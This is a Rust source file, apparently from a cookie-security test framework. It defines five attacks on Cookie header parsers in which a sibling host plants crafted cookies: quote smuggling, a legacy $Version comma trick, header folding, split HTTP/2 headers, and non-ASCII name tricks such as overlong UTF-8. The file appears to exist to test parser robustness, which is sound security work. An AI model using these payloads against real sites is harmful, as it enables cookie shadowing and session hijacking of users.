//! Attacks on the parser of the `Cookie` header. A sibling host sets the cookies.

use super::super::attack::{ATTACK, Attack, Careless, From, Plant, Target};
use super::careless;

const DEFAULT: Attack = Attack { file: "parsers.rs", ..ATTACK };

pub(crate) fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "Quote smuggling",
            summary: "A quote in one planted cookie hides the victim's cookie, and a quote in another one ends the \
                      string.",
            plants: |target| {
                let end = target
                    .names()
                    .into_iter()
                    .map(|name| deep(target, &format!("z{name}=b\", {name}={}", target.value), "/"));
                [deep(target, "a=\"1", "/who")].into_iter().chain(end).collect()
            },
            careless: Some(Careless { row: "a reader with quoted strings", read: careless::quoted_strings }),
            ..DEFAULT
        },
        Attack {
            name: "Legacy $Version",
            summary: "A cookie `$Version` makes a parser follow RFC 2965, with commas between cookies.",
            plants: |target| {
                // Two cookies with the same name need different paths.
                let names = target.names().into_iter().zip(["/who", "/"]);
                let plant = |(name, path)| deep(target, &format!("$Version=1, {name}={}", target.value), path);
                names.map(plant).collect()
            },
            careless: Some(Careless { row: "a reader of RFC 2965", read: careless::rfc_2965 }),
            ..DEFAULT
        },
        Attack {
            name: "Header folding",
            summary: "A parser that treats a comma as the end of a header finds the victim's name in a planted value.",
            plants: |target| {
                let cookies = target.names().into_iter().flat_map(|name| {
                    [format!("x{name}=1, {name}={}", target.value), format!("y{name}=1,{name}={}", target.value)]
                });
                cookies.map(|cookie| deep(target, &cookie, "/who")).collect()
            },
            careless: Some(Careless { row: "a reader that splits at commas", read: careless::commas }),
            ..DEFAULT
        },
        Attack {
            name: "Split Cookie headers",
            summary: "Over HTTP/2, each cookie can have its own header. The victim's and the attacker's cookies are in \
                      different headers.",
            plants: |target| {
                let cookies = target.names().into_iter().map(|name| format!("{name}={}", target.value));
                let cookies: Vec<_> = cookies.collect();
                let paths = ["/", "/who"].into_iter();
                paths.flat_map(|path| cookies.iter().map(move |cookie| deep(target, cookie, path))).collect()
            },
            over_http2: true,
            ..DEFAULT
        },
        Attack {
            name: "Charset tricks",
            summary: "The planted names and values are not ASCII: single bytes, overlong UTF-8 and full-width letters.",
            plants: |target| {
                let mut plants = vec![deep(target, "a=\u{e9}", "/who"), deep(target, "\u{e9}=1", "/who")];
                for name in target.names() {
                    let rest = &name.as_bytes()[1..];
                    // The first byte of the name as overlong UTF-8, with the high bit, and as a full-width character.
                    let first = name.as_bytes()[0];
                    let overlong = [0xc0 | (first >> 6), 0x80 | (first & 0x3f)];
                    let wide = char::from_u32(u32::from(first) + 0xfee0).unwrap_or('?').to_string();
                    for start in [&overlong[..], &[first | 0x80], wide.as_bytes(), &[0xff, first]] {
                        let cookie = [start, rest, b"=", target.value.as_bytes()].concat();
                        let attributes = format!("; Domain={}; Path=/who; Secure", target.setup.domain);
                        plants.push(From::Sibling.sends([&cookie[..], attributes.as_bytes()].concat()));
                    }
                }
                plants
            },
            careless: Some(Careless { row: "a reader that decodes to ASCII", read: careless::to_ascii }),
            ..DEFAULT
        },
    ]
}

fn deep(target: &Target<'_>, cookie: &str, path: &str) -> Plant {
    From::Sibling.sends(format!("{cookie}; Domain={}; Path={path}; Secure", target.setup.domain))
}
